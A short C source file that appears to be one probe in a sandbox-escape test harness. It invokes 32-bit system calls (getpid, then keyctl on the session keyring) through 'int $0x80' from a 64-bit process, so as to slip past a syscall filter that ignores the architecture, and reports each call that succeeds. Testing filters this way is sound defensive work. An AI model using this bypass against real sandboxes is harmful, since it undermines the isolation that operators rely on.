/* The 32-bit gate of a 64-bit program, past a filter that forgets the architecture. x86-64 only. */
#include "fuse.h"

#ifdef __x86_64__
enum { I386_GETPID = 20, I386_KEYCTL = 288 };

static long i386(long call, long first, long second, long third) {
    long answer;
    __asm__ volatile("int $0x80"
                     : "=a"(answer)
                     : "a"(call), "b"(first), "c"(second), "d"(third)
                     : "memory");
    return (int)answer;
}
#endif

static int attack(int count, char **words) {
    (void)count, (void)words;
#ifdef __x86_64__
    finding("i386_getpid", "%ld", i386(I386_GETPID, 0, 0, 0));
    long keyring = i386(I386_KEYCTL, 0, -3, 1);
    if (keyring > 0) finding("i386_keyctl", "%ld", keyring);
    return done();
#else
    raise(SIGSYS);
    return 1;
#endif
}
